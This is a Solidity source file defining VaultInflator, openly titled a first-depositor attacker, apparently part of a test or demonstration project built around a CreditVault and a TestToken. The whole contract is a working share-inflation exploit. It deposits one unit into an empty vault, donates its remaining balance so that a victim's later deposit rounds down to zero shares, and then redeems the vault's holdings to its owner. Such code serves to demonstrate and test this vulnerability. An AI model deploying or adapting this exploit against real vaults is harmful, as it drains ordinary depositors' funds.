// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.20;

import { CreditVault } from "./CreditVault.sol";
import { TestToken } from "./TestToken.sol";

/// @title The first-depositor attacker.
/// @notice Takes the first share of an empty vault for one unit of the asset, then donates so much that a victim's deposit
/// is worth less than one share and is rounded down to none.
contract VaultInflator {
    error NotOwner(address caller);

    address public immutable owner = msg.sender;

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        _;
    }

    /// Spends this contract's balance: one unit for the first share, all else as the donation.
    function inflate(CreditVault vault) external onlyOwner {
        TestToken asset = vault.asset();
        asset.approve(address(vault), 1);
        vault.deposit(1, address(this));
        asset.transfer(address(vault), asset.balanceOf(address(this)));
    }

    /// Redeems everything and hands it to the owner.
    function cashOut(CreditVault vault) external onlyOwner {
        vault.redeem(vault.balanceOf(address(this)), owner);
    }
}
